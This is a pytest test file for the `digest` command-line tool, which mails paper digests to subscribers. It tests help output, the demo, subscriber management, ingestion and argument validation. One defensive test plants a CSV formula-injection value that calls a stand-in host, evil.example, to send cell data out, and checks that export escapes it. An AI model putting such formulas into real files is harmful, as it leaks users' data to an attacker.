"""The `digest` command through click's test runner: help, the demo, admin commands, bad input."""

from __future__ import annotations

import re
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from digest.cli import main
from digest.lookups import day_digests, find_paper, latest_deliveries, list_papers

from .factories import make_delivery, make_paper, make_subscriber


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Invoke `digest` with the embedded default under a temporary data directory."""
    monkeypatch.chdir(tmp_path)  # no stray .env from the developer's checkout
    env = {
        "DATA_DIR": str(tmp_path / "data"),
        "DATABASE_URL": "",
        "MAIL_BACKEND": "file",
        "PUBLIC_BASE_URL": "https://digest.test",
        "SECRET_KEY": "cli-test-secret",
    }
    runner = CliRunner()

    def invoke(*args: str, input: str | None = None) -> Result:
        return runner.invoke(main, list(args), env=env, input=input, catch_exceptions=False)

    return invoke


def all_commands(group: click.Group, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    found = []
    for name, command in group.commands.items():
        found.append((*prefix, name))
        if isinstance(command, click.Group):
            found += all_commands(command, (*prefix, name))
    return found


@pytest.mark.parametrize("path", all_commands(main), ids=" ".join)
def test_every_command_has_help_with_an_example(cli, path: tuple[str, ...]) -> None:
    result = cli(*path, "--help")
    assert result.exit_code == 0
    command = main
    for name in path:
        command = command.commands[name]  # type: ignore[attr-defined]
    if not isinstance(command, click.Group):
        assert "Example" in result.output, path


def test_demo_sends_digests_to_the_file_outbox_and_says_where(cli, tmp_path: Path) -> None:
    result = cli("demo")
    assert result.exit_code == 0, result.output
    assert "Open the outbox in a browser: file://" in result.output
    index = tmp_path / "data" / "outbox" / "index.html"
    assert index.is_file()
    emls = list((tmp_path / "data" / "outbox").rglob("*.eml"))
    assert 3 <= len(emls) <= 7
    assert "ada@example.org" in result.output
    again = cli("demo")
    assert again.exit_code == 0
    assert "0 sent" in again.output and "already has today's digest" in again.output
    assert len(list((tmp_path / "data" / "outbox").rglob("*.eml"))) == len(emls)


def test_demo_emails_link_to_the_configured_address(tmp_path: Path, monkeypatch) -> None:
    """Every link of our own in the demo's emails (footer, feedback, List-Unsubscribe) starts
    with PUBLIC_BASE_URL, here one with a path, and none leads to the default localhost."""
    from email import message_from_bytes, policy

    monkeypatch.chdir(tmp_path)
    base = "https://papers.example.net/digest"
    env = {"DATA_DIR": str(tmp_path / "data"), "DATABASE_URL": "", "PUBLIC_BASE_URL": base,
           "SECRET_KEY": "cli-test-secret"}
    result = CliRunner().invoke(main, ["demo"], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert f"Links in these emails lead to {base}" in result.output
    emls = list((tmp_path / "data" / "outbox").rglob("*.eml"))
    assert emls
    for eml in emls:
        message = message_from_bytes(eml.read_bytes(), policy=policy.default)
        bodies = [part.get_content() for part in message.walk()  # type: ignore[attr-defined]
                  if part.get_content_type() in ("text/plain", "text/html")]
        html = next(b for b in bodies if b.lstrip().startswith("<!doctype"))
        footer = html[html.rindex("You receive this"):]
        links = re.findall(r'href="([^"]+)"', footer)
        assert {"Change preferences", "Unsubscribe"} <= set(re.findall(r">([^<]+)</a>", footer))
        assert links and all(link.startswith(base + "/") or link == base for link in links), links
        urls = re.findall(r"https?://[^\s\"<>]+", "\n".join(bodies))
        assert not [u for u in urls if "localhost" in u or "127.0.0.1" in u], eml.name
        own = [u for u in urls if "/unsubscribe/" in u or "/preferences/" in u or "/feedback/" in u]
        assert own and all(u.startswith(base + "/") for u in own), eml.name
        assert str(message["List-Unsubscribe"]).startswith(f"<{base}/unsubscribe/")


def test_subscriber_lifecycle(cli, tmp_path: Path) -> None:
    added = cli("subscribers", "add", "Ada@Example.org", "--topics", "LoRA, RLHF",
                "--time-zone", "Europe/Paris", "--hour", "8")
    assert added.exit_code == 0 and "Added Ada@example.org" in added.output
    duplicate = cli("subscribers", "add", "ada@example.org", "--topics", "x")
    assert duplicate.exit_code == 1 and "already subscribed" in duplicate.output
    assert "Ada@example.org" in cli("subscribers", "list").output
    changed = cli("subscribers", "set-topics", "ada@example.org", "diffusion models")
    assert "diffusion models" in changed.output
    shown = cli("subscribers", "show", "ADA@example.org")
    assert "diffusion models" in shown.output and "Europe/Paris" in shown.output
    removed = cli("subscribers", "remove", "ada@example.org", "--yes")
    assert removed.exit_code == 0
    assert "0 subscriber(s)" in cli("subscribers", "list").output


@pytest.mark.parametrize(
    "args, message",
    [
        (("subscribers", "add", "not-an-email", "--topics", "LoRA"), "not a valid email"),
        (("subscribers", "add", "a@example.org", "--topics", "LoRA", "--hour", "31"), "Send hour"),
        (("subscribers", "show", "ghost@example.org"), "No subscriber"),
        (("subscribers", "remove", "ghost@example.org", "--yes"), "No subscriber"),
        (("preview", "ghost@example.org"), "No subscriber"),
        (("run", "--date", "23/11/2026"), "not a date"),
        (("papers", "show", "9999.99999"), "No paper"),
        (("ingest",), "at least one file"),
    ],
)
def test_bad_input_gets_a_clear_error_not_a_traceback(cli, args, message: str) -> None:
    result = cli(*args)
    assert result.exit_code != 0
    assert message in result.output


def test_import_reports_bad_rows_and_export_writes_csv(cli, tmp_path: Path) -> None:
    source = tmp_path / "people.csv"
    source.write_text("email,topics\nada@example.org,LoRA\nbroken,LoRA\ngrace@example.org,RLHF\n")
    result = cli("subscribers", "import", str(source))
    assert result.exit_code == 1
    assert "line 3:" in result.output and "2 imported, 1 rejected" in result.output
    out = tmp_path / "out.csv"
    assert cli("subscribers", "export", str(out)).exit_code == 0
    lines = out.read_text().splitlines()
    assert lines[0].startswith('"email","topics"') and len(lines) == 3


def test_ingest_run_preview_and_papers(cli, tmp_path: Path, shared_dir: Path) -> None:
    seeds = sorted(str(p) for p in (shared_dir / "seeds").glob("*.txt"))
    ingested = cli("ingest", *seeds)
    assert ingested.exit_code == 0, ingested.output
    assert "445" in ingested.output or "inserted" in ingested.output
    listed = cli("papers", "list", "--search", "LoRA", "--limit", "3")
    assert listed.exit_code == 0 and "LoRA" in listed.output
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA, low-rank adaptation")
    preview = cli("preview", "ada@example.org")
    assert preview.exit_code == 0, preview.output
    html_path = Path(preview.output.split("HTML: ")[1].splitlines()[0])
    assert html_path.is_file() and "LoRA" in html_path.read_text()
    dry = cli("run", "--dry-run")
    assert "1 would send" in dry.output
    sent = cli("run")
    assert sent.exit_code == 0 and "1 sent" in sent.output and "Outbox:" in sent.output
    assert "0 sent" in cli("run").output
    history = cli("subscribers", "show", "ada@example.org")
    assert "sent" in history.output and "matches:" in history.output


def test_papers_show_prints_the_listing_date_and_the_daily_papers_extras(cli) -> None:
    real = Path(__file__).parent.parent / "inputs" / "real-inputs"
    assert cli("ingest", str(real / "hf_daily_papers_2026-07-13_25entries.json")).exit_code == 0

    shown = cli("papers", "show", "2607.07953")

    assert shown.exit_code == 0, shown.output
    lines = shown.output.splitlines()
    assert "Listed:    2026-07-10 00:00 UTC" in lines  # featured on 10 July, published the 8th
    assert "Organization: ETH Zurich" in lines
    assert "Code:      https://github.com/tommasocerruti/linear-attention-architectures" in lines
    [tldr] = [line for line in lines if line.startswith("TL;DR:     ")]
    [words] = [line for line in lines if line.startswith("Keywords:  ")]
    assert len(tldr) > 40 and len(words.split(", ")) == 24
    # A paper the site gave no extras shows a dash for each.
    bare = cli("papers", "show", "2607.09415").output.splitlines()
    for label in ("Organization:", "Code:     ", "TL;DR:    ", "Keywords: "):
        assert f"{label} -" in bare


def test_a_broken_source_is_reported_and_the_good_ones_still_go_in(cli, tmp_path: Path,
                                                                    shared_dir: Path) -> None:
    broken = tmp_path / "broken.xml"
    broken.write_text("<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><entry>")
    good = shared_dir / "real-inputs" / "hf_daily_papers_2026-07-13_25entries.json"
    result = cli("ingest", str(broken), str(good))
    assert result.exit_code == 1
    assert "broken.xml" in result.output
    assert "25 shown" not in result.output
    assert "25" in cli("papers", "list", "--limit", "100").output.splitlines()[-1]


# --- bad arguments: one clear line, a non-zero exit, nothing written ------------------------


def wrote_nothing(tmp_path: Path) -> bool:
    return not (tmp_path / "data").exists()


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1969-12-31", "3000-01-01",
                                 "2026-02-30", "x"])
@pytest.mark.parametrize(
    "command",
    [("run",), ("run", "--dry-run"), ("status",), ("preview", "ada@example.org"),
     ("recommend", "--topics", "LoRA"), ("in-doubt", "list"), ("in-doubt", "resend", "--all")],
    ids=" ".join,
)
def test_a_date_out_of_range_is_refused_before_anything_runs(
    cli, tmp_path: Path, command: tuple[str, ...], day: str
) -> None:
    result = cli(*command, "--date", day)
    assert result.exit_code == 2
    assert "Invalid value for '--date'" in result.output
    assert "out of range" in result.output or "not a date" in result.output
    assert wrote_nothing(tmp_path)


def test_the_first_and_last_dates_in_range_run(cli) -> None:
    from digest.cli.base import FIRST_DAY, LAST_DAY

    cli("ingest", "--sample")
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA")
    for day in (FIRST_DAY.isoformat(), LAST_DAY.isoformat()):
        for command in (("run", "--dry-run"), ("status",), ("preview", "ada@example.org"),
                        ("recommend", "--topics", "LoRA")):
            result = cli(*command, "--date", day)
            assert result.exit_code == 0, (command, day, result.output)


@pytest.mark.parametrize(
    "args, message",
    [
        (("subscribers", "add", "a@example.org", "--topics", " , , "), "at least one topic"),
        (("subscribers", "add", "a@example.org", "--topics", "--"), "at least one topic"),
        (("subscribers", "add", "a@example.org", "--topics", "LoRA", "--papers", "0"),
         "Papers per digest"),
        (("subscribers", "add", "a@example.org", "--topics", "LoRA", "--hour", "9" * 30),
         "Send hour"),
        (("subscribers", "set-topics", "ghost@example.org", " ; "), "No subscriber"),
        (("recommend", "--topics", " , , "), "at least one topic"),
        (("suppressions", "add", "not an address"), "not a valid email address"),
        (("papers", "list", "--limit", "-1"), "Invalid value for '--limit'"),
        (("papers", "list", "--limit", "9" * 30), "Invalid value for '--limit'"),
        (("papers", "show", "9" * 30), "No paper"),
        (("papers", "show", "²"), "No paper"),
        (("serve", "--port", "99999999"), "Invalid value for '--port'"),
        (("bench", "--subscribers", "0", "--papers", "0"), "Invalid value for '--subscribers'"),
        (("bench", "--batch-size", "-1"), "Invalid value for '--batch-size'"),
        (("db", "upgrade", "--revision", "nonsense"), "Can't locate revision"),
        (("dns-check", "--dmarc-reports", "not an address"), "not a valid email address"),
        (("dns-check", "--include", "bad domain"), "not a domain name"),
        (("eval", "--method", "nonsense"), "Invalid value for '--method'"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, tuple) else None,
)
def test_every_bad_argument_gets_a_clear_error_not_a_traceback(
    cli, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    result = cli(*args)
    assert result.exit_code != 0
    assert message in result.output
    assert "Traceback" not in result.output
    assert "0 subscriber(s)" in cli("subscribers", "list").output
    assert "0 suppressed" in cli("suppressions", "list").output


def test_dns_check_takes_real_domains_and_addresses(cli) -> None:
    result = cli("dns-check", "--include", "_spf.google.com", "--include", "sendgrid.net",
                 "--dmarc-reports", "dmarc@example.org")
    assert result.exit_code == 0
    assert "include:_spf.google.com include:sendgrid.net" in result.output
    assert "rua=mailto:dmarc@example.org" in result.output


def test_a_malformed_labelled_set_is_a_clear_error(cli, tmp_path: Path) -> None:
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "profiles.json").write_text("{not json")
    (tmp_path / "set" / "judgments.jsonl").write_text("")
    result = cli("eval", "--eval-dir", str(tmp_path / "set"))
    assert result.exit_code == 1 and "malformed" in result.output


GOOD_CSV = b"email,topics\nada@example.org,LoRA\ngrace@example.org,RLHF\n"


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 8,
        __import__("gzip").compress(GOOD_CSV),
        GOOD_CSV.decode().encode("utf-16"),
        GOOD_CSV + b"alan@example.org,\x8b\x00\x1f binary\n",
    ],
    ids=["binary", "gzip", "utf-16", "text-then-binary"],
)
def test_import_of_a_file_that_is_not_csv_text_writes_nothing(
    cli, tmp_path: Path, data: bytes
) -> None:
    source = tmp_path / "people.csv"
    source.write_bytes(data)
    result = cli("subscribers", "import", str(source))
    assert result.exit_code == 1
    assert "not UTF-8 text" in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert "0 subscriber(s)" in cli("subscribers", "list").output


def test_export_neutralises_formulas_and_round_trips(cli, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?x="&A2, "More papers")'
    assert cli("subscribers", "add", "ada@example.org", "--topics", hostile).exit_code == 0
    cli("subscribers", "add", "grace@example.org", "--topics", "LoRA, RLHF", "--pending")
    first = tmp_path / "first.csv"
    assert cli("subscribers", "export", str(first)).exit_code == 0
    assert '"\'=HYPERLINK(' in first.read_text() and '"=HYPERLINK(' not in first.read_text()
    for email in ("ada@example.org", "grace@example.org"):
        cli("subscribers", "remove", email, "--yes")
    imported = cli("subscribers", "import", str(first))
    assert imported.exit_code == 0, imported.output
    second = tmp_path / "second.csv"
    cli("subscribers", "export", str(second))
    assert second.read_bytes() == first.read_bytes()
    assert hostile in cli("subscribers", "show", "ada@example.org").output


def test_a_preview_that_cannot_be_written_says_so(cli, tmp_path: Path) -> None:
    cli("ingest", "--sample")
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA, low-rank adaptation")
    (tmp_path / "a-file").write_text("")
    result = cli("preview", "ada@example.org", "--out", str(tmp_path / "a-file" / "previews"))
    assert result.exit_code == 1
    assert "Cannot write the preview" in result.output and "--out" in result.output


# A server on loopback where nothing listens: the connection is refused at once.
UNREACHABLE_DATABASE = "postgresql+psycopg://digest@127.0.0.1:1/digest"


@pytest.fixture
def cli_without_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Invoke `digest` with a DATABASE_URL that cannot be opened."""
    monkeypatch.chdir(tmp_path)
    env = {"DATA_DIR": str(tmp_path / "data"), "DATABASE_URL": UNREACHABLE_DATABASE,
           "MAIL_BACKEND": "file", "PUBLIC_BASE_URL": "https://digest.test",
           "SECRET_KEY": "cli-test-secret"}

    def invoke(*args: str) -> Result:
        return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)

    return invoke


@pytest.mark.parametrize("path", all_commands(main), ids=" ".join)
def test_help_needs_no_database(cli_without_database, path: tuple[str, ...]) -> None:
    assert cli_without_database(*path, "--help").exit_code == 0


@pytest.mark.parametrize(
    "command",
    [("status",), ("run", "--dry-run"), ("demo",), ("prune", "--dry-run"), ("papers", "list"),
     ("papers", "show", "1"), ("subscribers", "list"), ("subscribers", "show", "ada@example.org"),
     ("suppressions", "list"), ("in-doubt", "list"), ("in-doubt", "resend", "--all"),
     ("ingest", "--sample"), ("recommend", "--topics", "LoRA")],
    ids=" ".join,
)
def test_a_database_that_cannot_be_opened_is_one_clear_error(
    cli_without_database, command: tuple[str, ...]
) -> None:
    result = cli_without_database(*command)
    assert result.exit_code == 1
    assert "Cannot open the database at postgresql+psycopg://digest@127.0.0.1:1/digest" in (
        result.output)
    assert "Check DATABASE_URL" in result.output


def test_input_is_checked_before_the_database_is_opened(cli_without_database) -> None:
    for command in (("ingest",), ("in-doubt", "resend")):
        result = cli_without_database(*command)
        assert result.exit_code == 2 and "Cannot open" not in result.output, command


def test_lookups_find_a_paper_by_either_id_and_list_the_newest_first(session) -> None:
    now = datetime.now(timezone.utc)
    old = make_paper(session, title="Old LoRA paper", first_seen_at=now - timedelta(days=2))
    new = make_paper(session, title="New diffusion paper", first_seen_at=now)
    assert find_paper(session, old.source_id) == old
    assert find_paper(session, str(new.id)) == new
    assert find_paper(session, "9" * 19) is None  # too long for an id: only a source id
    page = list_papers(session, limit=1)
    assert [p.title for p in page.papers] == ["New diffusion paper"] and page.total == 2
    assert [p.title for p in list_papers(session, 5, search="lora").papers] == ["Old LoRA paper"]


def test_lookups_list_a_subscribers_latest_deliveries_and_a_days_digests(session) -> None:
    ada = make_subscriber(session, "ada@example.org")
    bob = make_subscriber(session, "bob@example.org")
    day = date(2026, 11, 23)
    for offset in range(12):
        make_delivery(session, ada, day - timedelta(days=offset))
    make_delivery(session, bob, day)
    latest = latest_deliveries(session, ada.id, limit=10)
    assert len(latest) == 10 and latest[0].digest_date == day
    assert [d.email for d in day_digests(session, day)] == ["ada@example.org", "bob@example.org"]


def test_edit_changes_cadence_weekday_length_and_choices_and_keeps_the_rest(cli) -> None:
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA", "--hour", "8",
        "--time-zone", "Europe/Paris", "--papers", "5")
    edited = cli("subscribers", "edit", "ADA@example.org", "--cadence", "weekly",
                 "--weekday", "Fri", "--tracking", "--trending-fallback")
    assert edited.exit_code == 0, edited.output
    assert "cadence: weekly on Friday" in edited.output
    assert "click tracking: on" in edited.output and "trending fallback: on" in edited.output
    shown = cli("subscribers", "show", "ada@example.org").output
    assert "Cadence:      weekly on fri" in shown
    # What was not given stays, the length too: switching cadence keeps the reader's choice.
    assert "08:00 Europe/Paris, 5 papers" in shown
    assert "Click tracking: on" in shown and "Trending when nothing matches: yes" in shown
    assert "cadence: weekly on Friday" in shown  # one entry in the history
    back = cli("subscribers", "edit", "ada@example.org", "--cadence", "daily", "--papers", "12",
               "--no-tracking")
    assert "cadence: daily" in back.output and "papers: 12" in back.output
    shown = cli("subscribers", "show", "ada@example.org").output
    assert "Cadence:      daily\n" in shown and "12 papers" in shown
    assert "Click tracking: off" in shown
    same = cli("subscribers", "edit", "ada@example.org", "--cadence", "daily")
    assert same.exit_code == 0 and "nothing to change" in same.output


def test_a_weekday_for_a_daily_reader_is_kept_and_said_to_wait(cli) -> None:
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA")
    edited = cli("subscribers", "edit", "ada@example.org", "--weekday", "wed")
    assert edited.exit_code == 0
    assert "counts once they are weekly; now they are daily" in edited.output
    weekly = cli("subscribers", "edit", "ada@example.org", "--cadence", "weekly")
    assert "weekly on Wednesday" in weekly.output


@pytest.mark.parametrize(
    "args, message, code",
    [
        (("--cadence", "fortnightly"), "'fortnightly' is not one of 'daily', 'weekly'", 2),
        (("--weekday", "someday"), "'someday' is not one of 'mon'", 2),
        (("--papers", "0"), "Papers per digest must be from 1 to 50", 1),
        (("--papers", "many"), "'many' is not a valid integer", 2),
        (("--hour", "24"), "Send hour 24 must be from 0 to 23", 1),
        (("--time-zone", "Mars/Olympus"), "not a known time zone", 1),
    ],
)
def test_edit_refuses_bad_values_and_changes_nothing(cli, args, message: str, code: int) -> None:
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA", "--papers", "5")
    before = cli("subscribers", "show", "ada@example.org").output
    result = cli("subscribers", "edit", "ada@example.org", "--cadence", "weekly", *args)
    assert result.exit_code == code and message in result.output, result.output
    assert "Traceback" not in result.output
    assert cli("subscribers", "show", "ada@example.org").output == before


def test_edit_of_an_unknown_address_says_so(cli) -> None:
    result = cli("subscribers", "edit", "ghost@example.org", "--cadence", "weekly")
    assert result.exit_code == 1 and "No subscriber with the address" in result.output


def test_a_weekly_reader_added_without_a_length_gets_the_weekly_setting(
    cli, tmp_path: Path
) -> None:
    (tmp_path / ".env").write_text("WEEKLY_PAPERS_PER_DIGEST=15\nDEFAULT_PAPERS_PER_DIGEST=6\n")
    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA", "--cadence", "weekly")
    cli("subscribers", "add", "bob@example.org", "--topics", "LoRA")
    cli("subscribers", "add", "cy@example.org", "--topics", "LoRA", "--cadence", "weekly",
        "--papers", "3")
    assert "15 papers" in cli("subscribers", "show", "ada@example.org").output
    assert "6 papers" in cli("subscribers", "show", "bob@example.org").output
    assert "3 papers" in cli("subscribers", "show", "cy@example.org").output
    source = tmp_path / "people.csv"
    source.write_text("email,topics,cadence\ndi@example.org,LoRA,weekly\neve@example.org,LoRA,\n")
    assert cli("subscribers", "import", str(source)).exit_code == 0
    assert "15 papers" in cli("subscribers", "show", "di@example.org").output
    assert "6 papers" in cli("subscribers", "show", "eve@example.org").output
